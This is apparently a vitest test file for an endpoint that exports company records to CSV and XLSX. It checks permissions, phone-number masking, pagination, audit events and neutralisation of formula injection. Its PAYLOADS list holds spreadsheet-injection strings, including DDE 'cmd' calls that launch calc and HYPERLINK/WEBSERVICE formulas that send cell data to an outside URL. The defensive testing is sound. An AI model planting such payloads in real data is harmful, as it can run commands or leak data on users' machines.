import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { inflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { insertCategories, insertChoices, insertCompany } from '../../../test/companies.ts';
import { useKit } from '../../../test/kit.ts';
import { refusal } from '../../../test/refusal.ts';
import { eventsOf, type Staff, staffWith } from '../../../test/staff.ts';

/** What people have put into names so that a spreadsheet runs it. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://example.com?x="&A1,"看")',
  '=IMPORTXML("https://example.com","//a")',
  '=WEBSERVICE("https://example.com")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1',
  '−1+1',
  '"=1+1',
  '",=1+1',
  '",\r\n=1+1,"',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!D2',
  '@import',
  '=1;2\t3',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><f>1</f>',
];
const TRIGGER = /^[\s\p{Cf}]*[=+\-@＝＋－＠﹦−]|^[\t\r\n]/u;

describe('the export of companies', () => {
  const kit = useKit();
  let staff: Staff;
  beforeAll(async () => {
    staff = await staffWith(kit, (await kit.superAdmin()).token, ['company:write']);
    await insertChoices(kit);
    for (const name_zh of PAYLOADS) await insertCompany(kit, { name_zh, industry: 'machinery' });
  });

  async function download(query: string): Promise<Buffer> {
    const answer = await fetch(`${kit.base}/h5/mall/companyInfo/export?${query}`, {
      headers: { authorization: `Bearer ${staff.token}` },
    });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="companies-/);
    expect(answer.headers.get('cache-control')).toBe('no-store');
    return Buffer.from(await answer.arrayBuffer());
  }

  it('is for staff who look after companies', async () => {
    const call = (token?: string) => kit.call('GET', '/h5/mall/companyInfo/export', { token });
    expect(await call()).toMatchObject(refusal('session.invalid'));
    expect(await call((await kit.member()).token)).toMatchObject(refusal('forbidden'));
    expect(
      await kit.call('GET', '/h5/mall/companyInfo/export?format=xls', { token: staff.token }),
    ).toMatchObject(refusal('request.invalid'));
  });

  it('holds text and no formula in CSV, quoted so that it reads back', async () => {
    const bytes = await download('format=csv&industry=machinery');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8'), { typeInference: false }) as string[][];
    expect(rows.length).toBe(PAYLOADS.length + 1);
    expect(rows[0]![0]).toBe('企业名称');
    for (const [index, payload] of PAYLOADS.entries()) {
      const cell = rows[index + 1]![0]!;
      expect(cell).toBe(TRIGGER.test(payload) ? `'${payload}` : payload);
      expect(cell).not.toMatch(TRIGGER);
    }
  });

  it('holds text and no formula in xlsx, in cells of the type text', async () => {
    const bytes = await download('format=xlsx&industry=machinery');
    const { rows } = (await readXlsx(bytes)).sheets[0]!;
    expect(rows.length).toBe(PAYLOADS.length + 1);
    for (const [index] of PAYLOADS.entries()) expect(String(rows[index + 1]![0])).not.toMatch(TRIGGER);
    const xml = sheetXml(bytes);
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(new Set([...xml.matchAll(/<c [^>]*?t="(\w+)"/g)].map(([, type]) => type))).toEqual(
      new Set(['inlineStr']),
    );
    expect(xml.match(/<c /g)?.length).toBe(xml.match(/t="inlineStr"/g)?.length);
  });

  it('names what a company is filed under, masks its contacts and keeps to the filter', async () => {
    const { first, second } = await insertCategories(kit);
    const company_id = await insertCompany(kit, { name_zh: '澄湖精密', region: 'suzhou' });
    await kit.deps.db
      .insertInto('company_categories')
      .values([first, second].map((category_id) => ({ company_id, category_id })))
      .execute();
    await kit.deps.db
      .insertInto('company_contacts')
      .values({ company_id, field: 'phone', value: '13800001234', audience: 'public' })
      .execute();
    kit.clock.forward(2);
    const rows = parseCsv((await download('format=csv&region=suzhou')).toString('utf8')) as string[][];
    const row = Object.fromEntries(rows[0]!.map((head, index) => [head, rows[1]![index]]));
    expect(rows.length).toBe(2);
    expect(row).toMatchObject({
      企业名称: '澄湖精密',
      地区: '苏州',
      一级分类: '设备',
      二级分类: '机床',
      手机: '138****1234',
    });
  });

  it('goes through a table of many pages and leaves one event', async () => {
    const before = (await eventsOf(kit, 'company.export')).length;
    await kit.deps.db
      .insertInto('companies')
      .values(Array.from({ length: 1_200 }, (_, index) => ({ name_zh: `第${index}家`, region: 'wuxi' })))
      .execute();
    const rows = parseCsv((await download('format=csv&region=wuxi')).toString('utf8')) as string[][];
    expect(new Set(rows.slice(1).map(([name]) => name)).size).toBe(1_200);
    expect((await eventsOf(kit, 'company.export')).length).toBe(before + 1);
  });
});

/** The first worksheet, read by hand: a library might hide what it does not expect. */
function sheetXml(zip: Buffer): string {
  const end = zip.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'));
  let at = zip.readUInt32LE(end + 16);
  for (;;) {
    const name = zip.toString('utf8', at + 46, at + 46 + zip.readUInt16LE(at + 28));
    if (name === 'xl/worksheets/sheet1.xml') break;
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  const size = zip.readUInt32LE(at + 20);
  const local = zip.readUInt32LE(at + 42);
  const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
  return inflateRawSync(zip.subarray(start, start + size)).toString('utf8');
}
